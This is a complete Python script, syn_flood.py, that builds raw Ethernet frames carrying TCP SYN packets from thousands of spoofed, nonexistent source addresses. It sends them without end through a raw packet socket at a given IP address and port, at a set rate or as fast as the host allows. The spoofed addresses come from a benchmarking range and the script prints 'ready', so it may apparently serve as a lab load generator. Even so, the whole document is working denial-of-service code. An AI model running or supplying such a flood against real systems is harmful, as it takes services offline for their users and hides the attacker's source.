"""SYNs from addresses that do not exist, as fast as asked.

    syn_flood.py INTERFACE MAC ADDRESS PORT RATE      for ever; RATE 0: as fast as this host can; says "ready"

The frames are made beforehand; every SYN is from another source, which no host has.
"""
import random
import socket
import struct
import sys
import time

FRAMES = 8192
BURST = 32


def total(data):
    value = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while value >> 16:
        value = (value & 0xffff) + (value >> 16)
    return struct.pack("!H", ~value & 0xffff)


def frame(mac, target, port, number):
    source = struct.pack("!BBH", 198, 18, number)
    head = struct.pack("!BBHHHBBH", 0x45, 0, 44, 0, 0x4000, 64, 6, 0) + source + target
    head = head[:10] + total(head) + head[12:]
    tcp = struct.pack("!HHIIBBHHHBBH", random.randrange(1024, 65536), port, random.getrandbits(32), 0, 0x60, 2, 64240, 0,
                      0, 2, 4, 1460)
    tcp = tcp[:16] + total(source + target + struct.pack("!HH", 6, len(tcp)) + tcp) + tcp[18:]
    return mac + bytes.fromhex("02000000bb02") + b"\x08\x00" + head + tcp


def main(interface, mac, address, port, rate):
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((interface, 0))
    frames = [frame(bytes.fromhex(mac.replace(":", "")), socket.inet_aton(address), int(port), n) for n in range(FRAMES)]
    pause = BURST / float(rate) if float(rate) else 0
    print("ready", flush=True)
    due, at = time.monotonic(), 0
    while True:
        for one in frames[at:at + BURST]:
            try:
                wire.send(one)
            except OSError:  # the device's queue is full
                pass
        at = (at + BURST) % FRAMES
        due += pause
        left = due - time.monotonic()
        if left > 0:
            time.sleep(left)
        elif pause:
            due -= left  # what could not be sent in time is not made up for


main(*sys.argv[1:])
